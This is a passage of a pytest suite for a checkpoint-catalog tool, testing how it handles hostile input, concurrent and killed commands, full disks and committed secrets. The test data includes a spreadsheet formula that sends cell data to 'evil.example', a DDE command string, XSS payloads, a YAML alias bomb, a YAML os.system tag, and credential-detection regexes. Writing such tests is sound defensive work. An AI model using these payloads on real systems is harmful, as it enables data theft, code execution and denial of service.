    refused(zoo, *add_args(src, "beta", "7"), names=("zoo/checkpoints/beta.dvc", "symlink"), outside=outside)


# ---- text fields --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["description", "source"])
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_csv_formula_in_table_is_refused_not_exported(zoo, column, prefix):
    edit_cell(zoo, 2, column, f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"click")')
    refused(zoo, "ls", "--all-steps", "--format", "csv", names=(TABLE, "line 2", repr(column), "formula"))


def test_csv_safe_neutralises_every_prefix():
    from checkpoint_zoo.cli import _csv_safe

    for prefix in "=+-@":
        assert _csv_safe(prefix + "cmd|' /C calc'!A0") == "'" + prefix + "cmd|' /C calc'!A0"
    assert _csv_safe("-1.5") == "-1.5" and _csv_safe("+2") == "+2" and _csv_safe("plain") == "plain"


def test_terminal_escape_in_table_is_refused_and_shown_escaped(zoo):
    edit_cell(zoo, 3, "description", "\x1b]0;pwned\x07\x1b[2Jgone")
    r = refused(zoo, "show", "alpha@20", names=(TABLE, "line 3", "'description'", "control characters"))
    assert "\x1b" not in r.err and "\\x1b" in r.err


def test_html_in_description_is_stored_and_returned_verbatim(zoo, tmp_path):
    import csv

    hostile = '<script>alert(1)</script> <a href="javascript:alert(2)">x</a> "><img src=x onerror=alert(3)>'
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    r = zoo_run(zoo, *add_args(src, "gamma", "1", "--description", hostile))
    assert r.code == 0, r.err
    assert _row(zoo, "gamma@1")["description"] == hostile
    shown = json.loads(zoo_run(zoo, "show", "gamma@1", "--format", "json").out)
    assert shown["description"] == hostile
    exported = list(csv.DictReader(io.StringIO(zoo_run(zoo, "ls", "gamma", "--format", "csv").out)))
    assert exported[0]["description"] == hostile


BAD_METRIC_CELLS = {
    "reported-nan": (("reported_metric", "accuracy"), ("reported_value", "nan")),
    "reported-inf": (("reported_metric", "nll"), ("reported_value", "inf")),
    "reported-minus-inf": (("reported_metric", "nll"), ("reported_value", "-inf")),
    "reported-negative": (("reported_metric", "nll"), ("reported_value", "-0.1")),
    "accuracy-above-1": (("reported_metric", "accuracy"), ("reported_value", "1.5")),
    "epoch-nan": (("epoch", "nan"),),
    "epoch-inf": (("epoch", "inf"),),
}


@pytest.mark.parametrize("edits", list(BAD_METRIC_CELLS.values()), ids=list(BAD_METRIC_CELLS))
def test_non_finite_or_negative_metric_refused_by_schema(zoo, edits):
    for column, value in edits:
        edit_cell(zoo, 4, column, value)
    column, value = edits[-1]
    r = refused(zoo, "validate", names=(TABLE, "line 4", repr(column)))
    assert any(value in l and repr(column) in l for l in r.err.splitlines()), r.err


@pytest.mark.parametrize("claim", ["accuracy=-0.1", "nll=-1", "accuracy=1.5", "macro_f1=2"])
def test_out_of_range_reported_metric_refused_by_add(zoo, tmp_path, claim):
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    refused(zoo, *add_args(src, "gamma", "1", "--reported", claim), names=("--reported", claim))


def _alias_bomb() -> str:
    lines = ['lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 10):
        lines.append(f"lol{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_in_pointer_refused_quickly(clone, outside):
    pointer = clone / "zoo/checkpoints/alpha.dvc"
    pointer.write_text(pointer.read_text() + _alias_bomb())
    before = disk_state(clone, outside)
    r = zoo_run(clone, "pull", "alpha@10", address_space=4 * 1024**3, timeout=60)
    assert r.code == 1, r
    assert "zoo/checkpoints/alpha.dvc" in r.err and "anchors/aliases" in r.err and "Traceback" not in r.err, r.err
    assert r.seconds < 20, r.seconds
    assert disk_state(clone, outside) == before
    assert not (clone / A10).exists()


def test_yaml_alias_bomb_in_dvc_yaml_refused(zoo, tmp_path, outside):
    (zoo / "dvc.yaml").write_text("stages: {}\n" + _alias_bomb())
    src = write_safetensors(tmp_path / "w.safetensors", seed=9)
    refused(zoo, *add_args(src, "alpha", "30"), names=("dvc.yaml", "anchors/aliases"), outside=outside, timeout=60)


def test_yaml_python_tag_in_pointer_refused(clone, marker, outside):
    pointer = clone / "zoo/checkpoints/beta.dvc"
    pointer.write_text(pointer.read_text() + f"x: !!python/object/apply:os.system [\"touch '{marker}'\"]\n")
    refused(clone, "pull", "beta@5", names=("zoo/checkpoints/beta.dvc", "tag"), marker=marker, outside=outside)


def test_yaml_python_tag_in_dvc_yaml_never_constructed_by_release_edit(tmp_path, marker):
    """zoo release edits dvc.yaml with ruamel's round trip, not DVC's loader: a Python tag in a teammate's
    dvc.yaml is carried through as text, never constructed (DVC's own loader then refuses the file)."""
    from checkpoint_zoo.storage.dvc.pipeline import set_artifact

    (tmp_path / "dvc.yaml").write_text(f"stages: {{}}\nx: !!python/object/apply:os.system [\"touch '{marker}'\"]\n")
    set_artifact(tmp_path, "m", {"path": "zoo/checkpoints/m/step-00000001.safetensors", "type": "model"})
    text = (tmp_path / "dvc.yaml").read_text()
    assert not marker.exists()
    assert "x: !!python/object/apply:os.system" in text and "artifacts:\n  m:\n" in text


def test_no_unsafe_yaml_loading_anywhere():
    unsafe = re.compile(r"yaml\.(unsafe_load|full_load|load_all)\(|yaml\.load\((?![^)]*SafeLoader)|"
                        r"Loader\s*=\s*yaml\.(Loader|FullLoader|UnsafeLoader)|typ\s*=\s*['\"]unsafe['\"]")
    offenders = []
    for folder in ("src", "scripts"):
        for path in sorted((PROJECT / folder).rglob("*.py")):
            for lineno, line in enumerate(path.read_text().splitlines(), start=1):
                if unsafe.search(line):
                    offenders.append(f"{path.relative_to(PROJECT)}:{lineno}: {line.strip()}")
    assert not offenders, "unsafe YAML loading:\n" + "\n".join(offenders)


# ---- concurrency -------------------------------------------------------------------------------------------------


def _popen_zoo(root: Path, *args: str) -> subprocess.Popen:
    return subprocess.Popen([str(ZOO_BIN), *args], cwd=root, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_concurrent_adds_all_land(zoo, tmp_path):
    from checkpoint_zoo.catalog import table

    jobs = [("alpha", "30", 11), ("alpha", "40", 12), ("gamma", "1", 13)]
    files = [write_safetensors(tmp_path / f"{m}-{s}.safetensors", seed=seed) for m, s, seed in jobs]
    procs = [_popen_zoo(zoo, *add_args(f, m, s)) for f, (m, s, _) in zip(files, jobs)]
    results = [(p.wait(timeout=300), *p.communicate()) for p in procs]
    for (m, s, _), (code, out, err) in zip(jobs, results):
        assert code == 0 and f"added {m}@{s}" in out, (m, s, code, out, err)
    rows = table.load((zoo / TABLE).read_bytes())
    refs = {f"{r['model']}@{r['step']}": r["sha256"] for r in rows}
    for f, (m, s, _) in zip(files, jobs):
        assert refs[f"{m}@{s}"] == hashlib.sha256(f.read_bytes()).hexdigest()
    assert len(rows) == 6
    from checkpoint_zoo.storage.dvc import Storage

    storage = Storage(zoo)
    try:
        assert set(storage.manifest("zoo/checkpoints/alpha")) == {
            "step-00000010.safetensors", "step-00000020.safetensors", "step-00000030.safetensors",
            "step-00000040.safetensors"}
        assert set(storage.manifest("zoo/checkpoints/gamma")) == {"step-00000001.safetensors"}
    finally:
        storage.close()
    st = subprocess.run([sys.executable, "-m", "dvc", "status"], cwd=zoo, capture_output=True, text=True)
    assert st.returncode == 0 and "up to date" in st.stdout, st.stdout + st.stderr
    r = zoo_run(zoo, "verify", "--all")
    assert r.code == 0, r.out + r.err
    assert listing(zoo / INCOMING) == []


def test_concurrent_duplicate_exactly_one_lands(zoo, tmp_path):
    from checkpoint_zoo.catalog import table

    files = [write_safetensors(tmp_path / f"dup-{i}.safetensors", seed=20 + i) for i in range(2)]
    procs = [_popen_zoo(zoo, *add_args(f, "gamma", "1")) for f in files]
    results = [(p.wait(timeout=300), *p.communicate()) for p in procs]
    codes = sorted(code for code, _, _ in results)
    assert codes == [0, 1], results
    loser = next(err for code, _, err in results if code == 1)
    assert "gamma@1" in loser and "--replace" in loser and "Traceback" not in loser, loser
    winner = files[[code for code, _, _ in results].index(0)]
    rows = [r for r in table.load((zoo / TABLE).read_bytes()) if r["model"] == "gamma"]
    assert len(rows) == 1 and rows[0]["sha256"] == hashlib.sha256(winner.read_bytes()).hexdigest()
    assert (zoo / "zoo/checkpoints/gamma/step-00000001.safetensors").read_bytes() == winner.read_bytes()
    assert listing(zoo / INCOMING) == []


# ---- killed commands -----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def big_file(tmp_path_factory) -> Path:
    """A 64 MB safetensors file: big enough that every phase of an add or pull takes a visible moment."""
    from safetensors.numpy import save_file

    path = tmp_path_factory.mktemp("big") / "big.safetensors"
    save_file({"weight": np.arange(BIG_FLOATS, dtype=np.float32).reshape(1, -1)}, str(path))  # arch "big"
    return path


def _files_named(folder: Path, pattern: str) -> list[Path]:
    return [p for p in folder.glob(pattern) if p.is_file()] if folder.exists() else []


def _growing(folder: Path, pattern: str, more_than: int = 0) -> bool:
    """A file named so in ``folder`` holds more than ``more_than`` bytes; the command renames or removes its
    own files as it goes, so one that vanishes between the listing and its stat counts as not there."""
    for p in _files_named(folder, pattern):
        try:
            if p.stat().st_size > more_than:
                return True
        except FileNotFoundError:
            pass
    return False


ADD_PHASES = {
    # phase -> (condition on the zoo, extra delay, may the add finish before the kill?)
    "copy": (lambda z: _growing(z / INCOMING, ".*.safetensors.tmp-*"), 0.0, False),
    "placed": (lambda z: bool(_files_named(z / INCOMING, "delta-1-*.safetensors")), 0.0, False),
    "dvc": (lambda z: (z / "zoo/checkpoints/delta/step-00000001.safetensors").exists(), 0.05, False),
    "pointer": (lambda z: (z / "zoo/checkpoints/delta.dvc").exists(), 0.0, True),
}


@pytest.mark.parametrize("phase", list(ADD_PHASES))
def test_killed_add_leaves_valid_table_and_rerun_completes(zoo, big_file, phase):
    from checkpoint_zoo.catalog import table

    condition, after, may_finish = ADD_PHASES[phase]
    args = add_args(big_file, "delta", "1", "--arch", "big")
    killed = kill_when(_popen_zoo(zoo, *args), lambda: condition(zoo), after)
    assert killed or may_finish, f"the add finished before the kill at phase {phase!r}"
    rows = table.load((zoo / TABLE).read_bytes())  # parses and validates: the table is valid
    assert len(rows) in (3, 4)
    untracked = git("status", "--porcelain", "--untracked-files=all", cwd=zoo)
    assert ".tmp" not in untracked, untracked

    r = zoo_run(zoo, *args)
    assert r.code == 0 and ("added delta@1" in r.out or "nothing to do" in r.out), r
    assert listing(zoo / INCOMING) == [], "the killed run's temp files were not swept"
    assert _row(zoo, "delta@1")["sha256"] == hashlib.sha256(big_file.read_bytes()).hexdigest()
    r = zoo_run(zoo, "verify", "--all")
    assert r.code == 0, r.out + r.err
    st = subprocess.run([sys.executable, "-m", "dvc", "status"], cwd=zoo, capture_output=True, text=True)
    assert st.returncode == 0 and "up to date" in st.stdout, st.stdout + st.stderr
    assert sorted(p.name for p in (zoo / "zoo/checkpoints/delta").iterdir()) == ["step-00000001.safetensors"]


def test_add_after_a_kill_inside_dvcs_pointer_write(zoo, tmp_path):
    """What a kill inside DVC's in-place pointer rewrite leaves (too short a moment to hit with a real
    kill): the pointer cut short, and zoo's journal of its old content, the incoming copy and the
    replaced file's backup, all owned by a process that is gone. The next add puts the pointer and the
    old bytes back, sweeps the rest and completes."""
    pointer = zoo / "zoo/checkpoints/alpha.dvc"
    old_pointer = pointer.read_bytes()
    old_bytes = (zoo / A10).read_bytes()
    gone = subprocess.Popen(["true"])
    gone.wait()
    incoming = zoo / INCOMING
    incoming.mkdir(parents=True, exist_ok=True)
    backup = incoming / f"step-00000010.safetensors.1-{gone.pid}.backup"
    backup.write_bytes(old_bytes)  # --replace had moved it aside
    (incoming / f"alpha-10-{gone.pid}.journal").write_text(json.dumps({"entries": [  # the add's undo log
        {"op": "save", "path": str(pointer), "content": old_pointer.decode()},
        {"op": "place", "copy": str(incoming / f"alpha-10-{gone.pid}.safetensors"), "dest": str(zoo / A10),
         "backup": str(backup), "origin": None}]}))
    (zoo / A10).write_bytes(write_safetensors(tmp_path / "new.safetensors", seed=40).read_bytes())
    (incoming / f".alpha-10-{gone.pid}.safetensors.tmp-{gone.pid}").write_bytes(b"partial copy")
    pointer.write_bytes(old_pointer[:17])  # cut mid-write

    src = write_safetensors(tmp_path / "w.safetensors", seed=31)
    r = zoo_run(zoo, *add_args(src, "alpha", "30"))
    assert r.code == 0 and "added alpha@30" in r.out, r
    assert listing(incoming) == []
    assert (zoo / A10).read_bytes() == old_bytes, "the replaced checkpoint's bytes were not put back"
    r = zoo_run(zoo, "verify", "--all")
    assert r.code == 0, r.out + r.err
    st = subprocess.run([sys.executable, "-m", "dvc", "status"], cwd=zoo, capture_output=True, text=True)
    assert st.returncode == 0 and "up to date" in st.stdout, st.stdout + st.stderr


@pytest.fixture(scope="module")
def big_templates(templates, big_file, tmp_path_factory) -> Templates:
    """The template zoo plus delta@1 (64 MB), pushed; and a clone of it with no bytes."""
    base = tmp_path_factory.mktemp("hostile-big")
    with pytest.MonkeyPatch.context() as mp:
        isolate(mp, base / "home")
        root = _private_copy(templates.zoo, base / "zoo", templates.base / "remote", base / "remote")
        r = zoo_run(root, *add_args(big_file, "delta", "1", "--arch", "big"))
        assert r.code == 0, r.err
        r = zoo_run(root, "push", "delta@1")
        assert r.code == 0, r.err
        git("add", ".dvc/config", cwd=root)  # the clone must use this zoo's own remote
        git("commit", "-qm", "add delta", cwd=root)
        clone = base / "clone"
        subprocess.run(["git", "clone", "-q", str(root), str(clone)], check=True)
        shutil.rmtree(clone / ".dvc" / "cache", ignore_errors=True)
    return Templates(base, root, clone)


@pytest.fixture
def big_clone(big_templates, tmp_path) -> Path:
    remote = big_templates.base / "remote"  # only read by pulls: shared
    return _private_copy(big_templates.clone, tmp_path / "bc", remote, remote)


DELTA = "zoo/checkpoints/delta/step-00000001.safetensors"
PULL_PHASES = {
    "transfer": (lambda c: _growing(c / ".dvc/cache/files/md5", "*/.*.tmp")),
    "cached": (lambda c: _growing(c / ".dvc/cache/files/md5", "*/[!.]*", 4 * BIG_FLOATS)),
    "checkout": (lambda c: (c / "zoo/checkpoints/delta").exists()),
}


@pytest.mark.parametrize("phase", list(PULL_PHASES))
def test_killed_pull_recovers_on_rerun(big_clone, big_file, phase):
    killed = kill_when(_popen_zoo(big_clone, "pull", "delta@1"), lambda: PULL_PHASES[phase](big_clone))
    assert killed, f"the pull finished before the kill at phase {phase!r}"
    r = zoo_run(big_clone, "pull", "delta@1")
    assert r.code == 0 and "sha256 verified" in r.out, r
    assert (big_clone / DELTA).read_bytes() == big_file.read_bytes()
    assert zoo_run(big_clone, "verify", "delta@1").code == 0
    assert sorted(p.name for p in (big_clone / "zoo/checkpoints/delta").iterdir()) == ["step-00000001.safetensors"]
    st = subprocess.run([sys.executable, "-m", "dvc", "status", "zoo/checkpoints/delta.dvc"], cwd=big_clone,
                        capture_output=True, text=True)
    assert st.returncode == 0 and "up to date" in st.stdout, st.stdout + st.stderr


# ---- full disks -------------------------------------------------------------------------------------------------------

LIMIT = 1_000_000  # RLIMIT_FSIZE: writes past 1 MB fail with EFBIG (Python ignores SIGXFSZ)


def _two_mb(tmp_path: Path) -> Path:
    """Fits arch "wide" (add it with ``--arch wide``)."""
    return write_safetensors(tmp_path / "in" / "two-mb.safetensors", shapes={"weight": (512, 1024)})


def _cache_temps(root: Path) -> list[Path]:
    return [p for p in (root / ".dvc" / "cache").rglob("*.tmp")] if (root / ".dvc" / "cache").exists() else []


def test_disk_full_during_add(zoo, tmp_path, outside):
    src = _two_mb(tmp_path)
    refused(zoo, *add_args(src, "gamma", "1", "--arch", "wide"), fsize=LIMIT, outside=outside,
            names=(str(src), "file too large for the size limit", "temp files were removed"))
    assert _cache_temps(zoo) == []


def test_disk_full_during_add_move_keeps_the_source(zoo, tmp_path, outside):
    src = _two_mb(tmp_path)
    data = src.read_bytes()
    refused(zoo, *add_args(src, "gamma", "1", "--move", "--arch", "wide"), fsize=LIMIT, outside=outside, check_cache=False,
            names=("dvc add", "zoo/checkpoints/gamma", "file too large for the size limit"))
    assert src.read_bytes() == data, "the moved file was lost"
    assert _cache_temps(zoo) == []


def test_disk_full_during_pull_then_rerun(big_clone, big_file, outside):
    refused(big_clone, "pull", "delta@1", fsize=LIMIT, outside=outside, check_cache=False,
            names=("download", "file too large for the size limit"))
    assert _cache_temps(big_clone) == [] and not (big_clone / DELTA).exists()
    r = zoo_run(big_clone, "pull", "delta@1")
    assert r.code == 0, r
    assert (big_clone / DELTA).read_bytes() == big_file.read_bytes()


def test_disk_full_during_checkout(big_clone, outside):
    fetched = subprocess.run([sys.executable, "-m", "dvc", "fetch", "-q", "zoo/checkpoints/delta.dvc"], cwd=big_clone,
                             capture_output=True, text=True)
    assert fetched.returncode == 0, fetched.stderr
    refused(big_clone, "pull", "delta@1", fsize=LIMIT, outside=outside,
            names=("checking out", DELTA, "file too large for the size limit"))
    assert not (big_clone / "zoo/checkpoints/delta").exists() or not any((big_clone / "zoo/checkpoints/delta").iterdir())


def _can_mount() -> bool:
    return hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("mount") is not None


@pytest.mark.skipif(not _can_mount(), reason="needs root to mount a small tmpfs (RLIMIT_FSIZE cases cover the rest)")
def test_disk_full_for_real_on_tmpfs(templates, tmp_path, outside):
    mnt = tmp_path / "small"
    mnt.mkdir()
    size = sum(p.stat().st_size for p in templates.zoo.rglob("*") if p.is_file()) + 2 * 1024 * 1024
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mnt)], capture_output=True, text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount tmpfs here: {proc.stderr.strip()}")
    try:
        root = _private_copy(templates.zoo, mnt / "z", templates.base / "remote", tmp_path / "remote")
        free = shutil.disk_usage(mnt).free
        n = free // 4 + 1024
        register_arch(root, "huge", in_features=n, out_features=1, bias=False)
        src = write_safetensors(tmp_path / "in" / "big.safetensors", shapes={"weight": (1, n)})
        refused(root, *add_args(src, "gamma", "1", "--arch", "huge"), outside=outside,
                names=(str(src), "no space left on the device", "temp files were removed"))
        assert shutil.disk_usage(mnt).free >= free - 64 * 1024  # nothing half-written kept
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


# ---- secrets ----------------------------------------------------------------------------------------------------------

# Built from pieces so that this file does not match its own patterns.
SECRET_PATTERNS = {
    "AWS access key id": re.compile("(?:A" + "KIA|A" + "SIA|A3T[A-Z0-9])[A-Z0-9]{16}(?![A-Z0-9])"),
    "AWS secret key": re.compile("(?i)aws_?secret_?access_?key['\"]?\\s*[:=]\\s*['\"]?[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])"),
    "private key": re.compile("-----BEGIN (?:RSA |EC |DSA |OPENSSH |PGP |ENCRYPTED )?PRIVATE" + " KEY-----"),
    "GitHub token": re.compile("gh[pousr]_" + "[A-Za-z0-9]{36}"),
    "Slack token": re.compile("xox[abprs]-" + "[A-Za-z0-9-]{10,}"),
    "Google API key": re.compile("AI" + "za[0-9A-Za-z_-]{35}"),
}


PLACEHOLDER = re.compile("EXAMPLE|WRONG|FAKE|DUMMY|TEST|XXXX|0000000000", re.I)


def scan_for_secrets(root: Path, files: list[str]) -> list[str]:
    found = []
    for rel in files:
        path = root / rel
        try:
            if not path.is_file() or path.is_symlink() or path.stat().st_size > 5 * 1024 * 1024:
                continue
            data = path.read_bytes()
        except OSError:
            continue
        if b"\x00" in data[:8192]:
            continue  # binary (checkpoints, DVC objects)
        text = data.decode("utf-8", errors="replace")
        for what, pattern in SECRET_PATTERNS.items():
            for m in pattern.finditer(text):
                if PLACEHOLDER.search(m.group(0)):
                    continue  # AWS's documented EXAMPLE keys and tests' deliberately wrong ones
                line = text.count("\n", 0, m.start()) + 1
                found.append(f"{rel}:{line}: {what}")
    return found


def test_no_secrets_in_the_repository(tmp_path):
    files = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"], cwd=PROJECT,
                           capture_output=True, check=True).stdout.decode().split("\0")
    files = [f for f in files if f]
    assert len(files) > 20
    found = scan_for_secrets(PROJECT, files)
    assert not found, "credentials in the repository:\n" + "\n".join(found)

    from checkpoint_zoo.storage.dvc import SECRET_OPTIONS

    option = re.compile(r"^\s*([A-Za-z_]+)\s*=", re.M)
    committed = {m.group(1) for m in option.finditer((PROJECT / ".dvc" / "config").read_text())}
    assert not committed & SECRET_OPTIONS, f".dvc/config holds credentials: {sorted(committed & SECRET_OPTIONS)}"

    # the scanner is not vacuous: planted fakes are found
    planted = tmp_path / "planted.txt"
    planted.write_text("key = A" + "KIA" + "ABCDEFGHIJKLMNOP\naws_secret_access_key = " + "a" * 40 + "\n"
                       "-----BEGIN OPENSSH PRIVATE" + " KEY-----\n" + "gh" + "p_" + "b" * 36 + "\n")
    hits = scan_for_secrets(tmp_path, ["planted.txt"])
    assert {h.split(": ", 1)[1] for h in hits} == {"AWS access key id", "AWS secret key", "private key", "GitHub token"}


# ---- round two: bounded text, one integer spelling, special files, failed staging, parent loops -------------


ADD_KW = dict(arch="linear", task="tabular-classification", dataset="wine", license="MIT")


def _add_source(tmp_path: Path, seed: int = 7) -> Path:
    return write_safetensors(tmp_path / "in2" / f"s{seed}.safetensors", seed=seed)


@pytest.mark.parametrize("field", ["description", "source", "tags"])
def test_free_text_is_bounded_where_it_is_written(zoo, tmp_path, field):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import InvalidValueError

    src = _add_source(tmp_path)
    value = ("t" * 40,) * 5000 if field == "tags" else "d" * 200_000
    before = disk_state(zoo)
    with Zoo(zoo) as z, pytest.raises(InvalidValueError, match=f"--{field}.*(characters|fit the table)"):
        z.add(src, model="gamma", step=1, **ADD_KW, **{field: value})
    assert disk_state(zoo) == before


def test_conversion_note_cannot_push_source_past_the_bound(zoo, tmp_path):
    import torch

    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import InvalidValueError

    src = _inputs(tmp_path) / "model.pt"
    torch.save(_tensors(), src)
    before = disk_state(zoo)
    with Zoo(zoo) as z, pytest.raises(InvalidValueError, match="with the conversion note would be"):
        z.add(src, model="gamma", step=1, convert=True, source="s" * 4000, **ADD_KW)
    assert disk_state(zoo) == before


@pytest.mark.parametrize("case", ["huge-field", "bom"])
def test_unreadable_table_gets_one_clear_line(zoo, case):
    path = zoo / TABLE
    if case == "huge-field":
        edit_cell(zoo, 2, "description", "d" * 200_000)
        names: tuple[str, ...] = (TABLE, "line 2", "longer than 131072", "shorten it")
    else:
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
        names = (TABLE, "byte-order mark", "without a BOM")
    for command in (("ls",), ("validate",)):
        r = zoo_run(zoo, *command)
        assert r.code == 1 and "Traceback" not in r.err and "unexpected" not in r.err, r
        assert all(n in r.err for n in names), r.err
        assert len([l for l in r.err.splitlines() if l.strip()]) <= 2, r.err


@pytest.mark.parametrize("spelling", ["010", " 10", "+10", "10 ", "1_0", "０１０", "1e1", "10.0", "-0",
                                      "9223372036854775808"])
def test_step_has_one_spelling(zoo, spelling):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import TableInvalidError

    edit_cell(zoo, 2, "step", spelling)
    with Zoo(zoo) as z:
        text = "\n".join(z.validate())
        with pytest.raises(TableInvalidError):
            z.rows()
    assert f"column 'step' value {spelling!r}" in text and "plain ASCII digits" in text, text


def test_step_spellings_refused_at_add(zoo, tmp_path):
    from checkpoint_zoo import Zoo

    manifest = tmp_path / "in2" / "run.csv"
    src = _add_source(tmp_path)
    spellings = ["010", "+10", "０１０", " 10", "1_0", "9223372036854775808"]
    manifest.write_text("file,model,step,arch,task,dataset,license\n" +
                        "".join(f"{src},m{n},\"{s}\",linear,tabular-classification,wine,MIT\n"
                                for n, s in enumerate(spellings)))
    before = disk_state(zoo)
    with Zoo(zoo) as z, pytest.raises(ZooError) as caught:
        z.add_from(manifest)
    text = str(caught.value)
    assert all(f"run.csv:{n + 2}: step {s!r}" in text for n, s in enumerate(spellings)), text
    assert disk_state(zoo) == before
    r = refused(zoo, *add_args(src, "gamma", "010"), names=("--step", "'010'", "plain ASCII digits"))
    assert "Traceback" not in r.err


def test_move_and_add_take_only_regular_files(zoo, tmp_path):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import InvalidValueError

    folder = tmp_path / "in2"
    src = _add_source(tmp_path)
    fifo = folder / "fifo"
    os.mkfifo(fifo)
    linked_fifo = folder / "stdin-like"
    linked_fifo.symlink_to(fifo)
    link = folder / "link.safetensors"
    link.symlink_to(src)
    read_end, write_end = os.pipe()
    cases = {fifo: "a FIFO or pipe", linked_fifo: "a FIFO or pipe", Path(f"/proc/self/fd/{read_end}"): "a FIFO or pipe",
             Path("/dev/null"): "a character device"}
    before = disk_state(zoo)
    try:
        with Zoo(zoo) as z:
            for path, kind in cases.items():
                for move in (False, True):
                    with pytest.raises(InvalidValueError, match=f"is {kind}, not a regular file"):
                        z.add(path, model="gamma", step=1, move=move, **ADD_KW)
            with pytest.raises(InvalidValueError, match="is a symlink; --move moves only regular files"):
                z.add(link, model="gamma", step=1, move=True, **ADD_KW)
            # a folder is a folder checkpoint: one holding a FIFO or a symlink is refused, and never moved
            with pytest.raises(InvalidValueError, match="fifo: is not a regular file|is a symlink"):
                z.add(folder, model="gamma", step=1, **ADD_KW)
            from checkpoint_zoo.errors import UsageError

            with pytest.raises(UsageError, match="--move takes a file"):
                z.add(folder, model="gamma", step=1, move=True, **ADD_KW)
            assert disk_state(zoo) == before
            assert fifo.exists() and linked_fifo.is_symlink() and link.is_symlink() and src.is_file()
            assert listing(zoo / ".zoo" / "incoming") == [] if (zoo / ".zoo" / "incoming").exists() else True
            assert z.add(link, model="gamma", step=1, **ADD_KW).status == "added"  # a copy follows the link
    finally:
        os.close(read_end)
        os.close(write_end)
    assert link.is_symlink() and src.is_file()


@pytest.mark.parametrize("how", ["index-lock", "git-add-fails"])
def test_failed_staging_changes_nothing(zoo, tmp_path, monkeypatch, how):
    from checkpoint_zoo import Zoo

    src = _add_source(tmp_path)
    keep = src.read_bytes()
    lock = zoo / ".git" / "index.lock"
    if how == "index-lock":
        lock.write_bytes(b"")
    else:  # git itself refuses, after the zoo's own check has passed
        monkeypatch.setenv("GIT_INDEX_FILE", str(tmp_path / "no-such-dir" / "index"))
    before = disk_state(zoo)
    index = (zoo / ".git" / "index").read_bytes()
    with Zoo(zoo) as z, pytest.raises(ZooError) as caught:
        z.add(src, model="gamma", step=1, move=True, **ADD_KW)
    assert "nothing was" in str(caught.value)
    if how == "index-lock":
        assert str(lock) in str(caught.value)
    assert disk_state(zoo) == before, changed(before, disk_state(zoo)) and (zoo / ".git" / "index").read_bytes() == index
    assert src.read_bytes() == keep  # the moved file is back
    lock.unlink(missing_ok=True)
    monkeypatch.delenv("GIT_INDEX_FILE", raising=False)
    with Zoo(zoo) as z:
        assert z.add(src, model="gamma", step=1, **ADD_KW).status == "added"
    staged = git("diff", "--cached", "--name-only", cwd=zoo).split()
    assert TABLE in staged and "zoo/checkpoints/gamma.dvc" in staged, staged


def test_a_checkpoint_cannot_descend_from_itself(zoo, tmp_path):
    from checkpoint_zoo import Zoo
    from checkpoint_zoo.errors import InvalidValueError

    src = _add_source(tmp_path)
    with Zoo(zoo) as z:
        z.add(src, model="selfp", step=1, **ADD_KW)
        z.add(_add_source(tmp_path, 8), model="selfp", step=2, parent="selfp@1", **ADD_KW)
        before = disk_state(zoo)
        with pytest.raises(InvalidValueError, match="cannot be its own parent"):
            z.add(_add_source(tmp_path, 9), model="selfp", step=1, parent="selfp@1", replace=True, **ADD_KW)
        with pytest.raises(InvalidValueError, match=r"loop of parents \(selfp@1 -> selfp@2 -> selfp@1\)"):
            z.add(_add_source(tmp_path, 9), model="selfp", step=1, parent="selfp@2", replace=True, **ADD_KW)
        assert disk_state(zoo) == before
    edit_cell(zoo, 2, "parent", "alpha@20")  # by hand: alpha@10 <- alpha@20 <- alpha@10
    edit_cell(zoo, 3, "parent", "alpha@10")
    with Zoo(zoo) as z:
        assert any("makes a loop of parents" in p for p in z.validate()), z.validate()


# ---- round two: evaluation records, params, --where, revisions, terminal escapes, pointers ------------------


def _good_record(zoo: Path, ref: str) -> dict:
    row = _row(zoo, ref)
    return {"step": int(row["step"]), "sha256": row["sha256"], "task": row["task"], "arch": row["arch"],
            "dataset": row["dataset"], "split": "test", "n_examples": 45, "metrics": {"accuracy": 0.5, "nll": 1.0},
            "higher_is_better": {"accuracy": True, "nll": False},
            "selection": {"split": "val", "metric": "accuracy", "higher_is_better": True, "value": 0.5,
                          "metrics": {"accuracy": 0.5, "nll": 1.0}}}


EVALUATION_CASES = {
    "nan-metric": (lambda r: {**r, "metrics": {"accuracy": float("nan")}}, "metrics.accuracy"),
    "inf-selection": (lambda r: {**r, "selection": {**r["selection"], "value": float("inf")}}, "selection.value"),
    "string-metric": (lambda r: {**r, "metrics": {"accuracy": "0.9"}}, "metrics.accuracy"),
    "bool-metric": (lambda r: {**r, "metrics": {"accuracy": True}}, "metrics.accuracy"),
    "no-step": (lambda r: {k: v for k, v in r.items() if k != "step"}, "step"),
    "string-step": (lambda r: {**r, "step": "10"}, "step"),
    "float-step": (lambda r: {**r, "step": 10.0}, "step"),
    "list-record": (lambda r: [r], "record 1"),
    "list-file": (None, "the file"),
}


@pytest.mark.parametrize("case", list(EVALUATION_CASES))
def test_evaluation_records_are_checked_on_read(zoo, case):
    from checkpoint_zoo import Zoo

    make, names = EVALUATION_CASES[case]
    path = zoo / "zoo" / "metrics" / "evaluations" / "alpha.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    good = _good_record(zoo, "alpha@10")
    path.write_text(json.dumps({"model": "alpha", "checkpoints": [good]}))
